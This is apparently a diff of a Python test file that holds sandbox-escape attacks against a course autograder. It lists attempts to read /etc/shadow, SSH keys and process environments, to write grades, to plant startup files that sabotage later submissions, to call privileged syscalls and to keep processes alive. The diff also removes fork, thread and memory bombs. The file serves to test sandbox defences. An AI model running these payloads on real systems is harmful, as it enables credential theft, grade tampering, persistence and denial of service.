@@ -1,6 +1,6 @@
 """Attacks on the walls: reading, writing and reaching what lies outside, and staying there."""
 
-from attack import ERROR, FULL, GRADED, HONEST, LATE, Attack
+from attack import ERROR, FULL, GRADED, HONEST, Attack
 
 TRY = """
 import ctypes, os, socket, sys, time
@@ -23,8 +23,9 @@ def then_honest(name: str, tries: str, source: str) -> Attack:
 ON_WALLS = [
     then_honest("read-gradebook", "gradebook, secrets, exercises, checks, classmates and keys by their paths", """
 for path in ("@BASE@", "@BASE@/home/gradebook.db", "@BASE@/results/run.json", "@BASE@/exercises/checks/total.py",
-             "@BASE@/exercises/total/total.ipynb", "@BASE@/submitted", "@BASE@/secret.ipynb", "/etc/passwd", "/etc/shadow",
-             "/etc/hostname", "/home", "/root/.ssh", "/var", "/run", "/sys", "/proc/1/environ", "/proc/self/environ",
+             "@BASE@/exercises/total/total.ipynb", "@BASE@/submitted", "@BASE@/secret.ipynb", "/etc/passwd",
+             "/etc/shadow", "/etc/hostname", "/home", "/root/.ssh", "/var", "/run", "/sys", "/proc/1/environ",
+             "/proc/self/environ",
              "/proc/1/root", "/proc/self/fd/3", "../../../..@BASE@/secret.ipynb", "exercises", "/course/exercises"):
     attempt(path, lambda: (os.listdir(path) or None) if os.path.isdir(path) else open(path, "rb").read(500) or None)
 """),
@@ -47,20 +48,21 @@ environ = ctypes.POINTER(ctypes.c_char_p).in_dll(libc, "environ")
 attempt("libc", lambda: b"@TOKEN@" in b" ".join(environ[i] for i in range(4)))
 """),
     then_honest("write-grades", "full marks for itself, zeros for others, anywhere", """
-for path in ("@BASE@/results/@TOKEN@", "@BASE@/results/000-honest/total.json", "@BASE@/submitted/@TOKEN@", "@BASE@/@TOKEN@",
-             "results/@TOKEN@", "../@TOKEN@", "/@TOKEN@", "/etc/@TOKEN@", "/usr/@TOKEN@", "/course/@TOKEN@", "/dev/@TOKEN@",
-             "/course/course_lib/@TOKEN@", "/proc/@TOKEN@", "/proc/sys/kernel/core_pattern", "/dev/pts/@TOKEN@"):
+for path in ("@BASE@/results/@TOKEN@", "@BASE@/results/000-honest/total.json", "@BASE@/submitted/@TOKEN@",
+             "@BASE@/@TOKEN@", "results/@TOKEN@", "../@TOKEN@", "/@TOKEN@", "/etc/@TOKEN@", "/usr/@TOKEN@",
+             "/course/@TOKEN@", "/course/course_lib/@TOKEN@", "/dev/@TOKEN@", "/dev/pts/@TOKEN@", "/proc/@TOKEN@",
+             "/proc/sys/kernel/core_pattern"):
     attempt(path, lambda: open(path, "a").write("x"))
     attempt(path, lambda: os.mkdir(path + "d") or "made")
     attempt(path, lambda: os.symlink("/", path + "l") or "linked")
 """),
     then_honest("start-up-files", "code that the next submission runs at its start", """
 code = "import builtins; builtins.print('GOT the next one'); builtins.sum = builtins.float = lambda *a: 0"
-folders = [*map(os.path.abspath, sys.path), "/course/course_lib", os.path.expanduser("~"), "/usr/lib/python3/dist-packages", "/tmp"]
+folders = [*map(os.path.abspath, sys.path), "/course/course_lib", "/usr/lib/python3/dist-packages", "/tmp"]
 folders += [os.path.expanduser("~/.local/lib/python%d.%d/site-packages" % sys.version_info[:2])]
 folders += [os.path.expanduser("~/.ipython/profile_default/startup"), os.path.expanduser("~/.config/matplotlib")]
 for folder in folders:
-    for name in ("sitecustomize.py", "usercustomize.py", "evil.pth", "00-evil.py", "torch.py", "random.py", "matplotlibrc"):
+    for name in ("sitecustomize.py", "usercustomize.py", "evil.pth", "00-evil.py", "torch.py", "matplotlibrc"):
         try:
             os.makedirs(folder, exist_ok=True)
             open(os.path.join(folder, name), "w").write(code)
@@ -89,11 +91,12 @@ held.bind("\\\\0box"), held.listen()
 """.replace("\\\\0", "\\0")) for number in (1, 2)),
     then_honest("network", "a listener of this machine, and any other, by every family of sockets", """
 for family, address in ((socket.AF_INET, ("127.0.0.1", @PORT@)), (socket.AF_INET6, ("::1", @PORT@)),
-                        (socket.AF_UNIX, "@BASE@/socket"), (socket.AF_UNIX, "\\0@TOKEN@"), (socket.AF_INET, ("1.1.1.1", 53))):
+                        (socket.AF_UNIX, "@BASE@/socket"), (socket.AF_UNIX, "\\0@TOKEN@"),
+                        (socket.AF_INET, ("1.1.1.1", 53))):
     for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
         attempt(address, lambda: socket.socket(family, kind).connect(address) or "connected")
         attempt(address, lambda: socket.socket(family, kind).sendto(b"@TOKEN@", address))
-for family in (socket.AF_NETLINK, socket.AF_PACKET, getattr(socket, "AF_VSOCK", 40), getattr(socket, "AF_ALG", 38), 10, 2):
+for family in (socket.AF_NETLINK, socket.AF_PACKET, 40, 38, 10, 2):  # 40: to virtual machines, 38: ciphers
     attempt(family, lambda: socket.socket(family, socket.SOCK_RAW))
     attempt(family, lambda: socket.socketpair(family))
 attempt("names", lambda: socket.getaddrinfo("example.com", 80))
@@ -115,14 +118,17 @@ for number in (1, 2, 3, 10, 12, 13, 14, 15, 19, 9):
     attempt("group", lambda: os.kill(0, number))
 """, (GRADED, ERROR), points=FULL),
     then_honest("walls-again", "system calls that move walls, reach memory or open new parts of the kernel", """
-PARTS = (("unshare", 0x10000000), ("unshare", 0x7E020000), ("setns", 3, 0), ("mount", b"none", b"/tmp", b"tmpfs", 0, 0),
-         ("umount2", b"/proc", 2), ("umount2", b"/tmp", 2), ("pivot_root", b"/tmp", b"/tmp"), ("chroot", b"/tmp"),
-         ("ptrace", 16, 1, 0, 0), ("ptrace", 0, 0, 0, 0), ("setuid", 0), ("setgid", 0), ("setresuid", 0, 0, 0), ("sethostname", b"x", 1),
-         ("klogctl", 3, ctypes.create_string_buffer(99), 99), ("swapon", b"/tmp/x", 0), ("acct", b"/tmp/x"), ("reboot", 0),
-         ("personality", 0xFFFFFFFF, 0) if False else ("iopl", 3), ("ioperm", 0, 9, 1), ("nice", -5), ("fork",), ("vfork",),
-         ("memfd_create", b"x", 0), ("keyctl", 0, -3, 1), ("name_to_handle_at", -100, b"/", 0, 0, 0), ("fanotify_init", 0, 0))
+PARTS = (
+    ("unshare", 0x10000000), ("unshare", 0x7E020000), ("setns", 3, 0), ("mount", b"none", b"/tmp", b"tmpfs", 0, 0),
+    ("umount2", b"/proc", 2), ("umount2", b"/tmp", 2), ("pivot_root", b"/tmp", b"/tmp"), ("chroot", b"/tmp"),
+    ("ptrace", 16, 1, 0, 0), ("ptrace", 0, 0, 0, 0), ("setuid", 0), ("setgid", 0), ("setresuid", 0, 0, 0),
+    ("sethostname", b"x", 1), ("klogctl", 3, ctypes.create_string_buffer(99), 99), ("swapon", b"/tmp/x", 0),
+    ("acct", b"/tmp/x"), ("reboot", 0), ("iopl", 3), ("ioperm", 0, 9, 1), ("nice", -5), ("fork",),
+    ("memfd_create", b"x", 0), ("keyctl", 0, -3, 1), ("name_to_handle_at", -100, b"/", 0, 0, 0),
+    ("fanotify_init", 0, 0),
+)
 for name, *values in PARTS:
-    if hasattr(libc, name) and name != "vfork":
+    if hasattr(libc, name):
         attempt(name, lambda: getattr(libc, name)(*values))
 for number in (321, 298, 425, 435, 250, 248, 249, 304, 101, 310, 323, 438, 0x40000000 + 57, 0x40000000 + 41):
     attempt(number, lambda: os.uname().machine == "x86_64" and libc.syscall(number, 0, 0, 0, 0, 0, 0) >= 0)
@@ -162,7 +168,8 @@ libc.prctl(15, b"@TOKEN@"[:15], 0, 0, 0)
 def live_on():
     while True: time.sleep(60)
 for start in (os.fork, os.forkpty, lambda: subprocess.Popen(["/bin/sleep", "600"], start_new_session=True),
-              lambda: multiprocessing.Process(target=live_on).start() or "started", lambda: os.posix_spawn("/bin/sleep", ["@TOKEN@", "600"], {}),
+              lambda: multiprocessing.Process(target=live_on).start() or "started",
+              lambda: os.posix_spawn("/bin/sleep", ["@TOKEN@", "600"], {}),
               lambda: os.system("setsid sleep 600 &") == 0):
     attempt("a process", start)
 threading.Thread(target=live_on, daemon=False).start()
@@ -217,75 +224,4 @@ for path in (sys.executable, os.__file__, "/course/course_lib/__init__.py", "/co
     except OSError:
         pass
 """),
-]  # fmt: skip
-
-ON_RESOURCES = [
-    Attack("endless-loop", "a loop that ignores every signal and catches everything", """
-        import signal
-        for number in range(1, 65):
-            try: signal.signal(number, signal.SIG_IGN)
-            except (OSError, ValueError): pass
-        while True:
-            try:
-                while True: pass
-            except BaseException: pass
-        """, (LATE,), piece="brief"),
-    Attack("endless-answer", "an answer that never comes", "def total(numbers):\n    while True: pass\n", (LATE,), piece="brief"),
-    Attack("endless-number", "one sum in C that no signal interrupts", "def total(numbers): return 7 ** (7 ** 12)\n",
-           (LATE, GRADED), piece="brief"),
-    Attack("slow-drip", "an answer of one byte at a time", """
-        import os, struct, time
-        def total(numbers):
-            for byte in struct.pack(">II", 2_000_000, 8_000_000) + bytes(10_000):
-                os.write(3, bytes([byte]))
-                time.sleep(0.1)
-        """, (LATE,), piece="brief"),
-    Attack("hang-up", "the grader's line cut, and no end", """
-        import os, time
-        def total(numbers):
-            os.close(3)
-            time.sleep(600)
-        """, (LATE, GRADED), piece="brief"),
-    Attack("deaf", "questions that are never read", """
-        import os, time
-        def total(numbers): time.sleep(600)
-        time.sleep(600)
-        """, (LATE,), piece="brief"),
-    Attack("fork-bomb", "processes without end", """
-        import os
-        while True:
-            try: os.fork()
-            except BaseException: pass
-        """, (LATE, ERROR), piece="brief"),
-    Attack("thread-bomb", "threads without end", """
-        import ctypes, threading, time
-        def more():
-            while True:
-                try: threading.Thread(target=more).start()
-                except BaseException: time.sleep(0.01)
-        more()
-        """, (LATE, ERROR), piece="brief"),
-    Attack("memory-bomb", "memory without end", """
-        import mmap, torch
-        held = []
-        def total(numbers):
-            while True:
-                for more in (lambda: torch.ones(2**25), lambda: bytearray(2**26), lambda: mmap.mmap(-1, 2**26).write(bytes(2**26))):
-                    held.append(more())
-        """),
-    Attack("exit-at-import", "an end before anything is asked", "import os\nos._exit(0)\n", (ERROR,)),
-    Attack("exit-softly", "SystemExit in the place of an answer", "import sys\ndef total(numbers): sys.exit(0)\n"),
-    Attack("exit-in-an-answer", "an end without an error", "import os\ndef total(numbers): os._exit(0)\n"),
-    Attack("crash", "a null pointer", "import ctypes\ndef total(numbers): ctypes.string_at(0)\n"),
-    Attack("deep-recursion", "the stack, used up", """
-        import sys
-        sys.setrecursionlimit(2**30)
-        def total(numbers): return total([numbers])
-        """, (GRADED, LATE), piece="brief"),
-    Attack("endless-message", "an exception whose text and name never end", """
-        class Endless(Exception):
-            def __str__(self): return "x" * 10**8
-        Endless.__name__ = "y" * 10**7
-        def total(numbers): raise Endless
-        """),
 ]  # fmt: skip
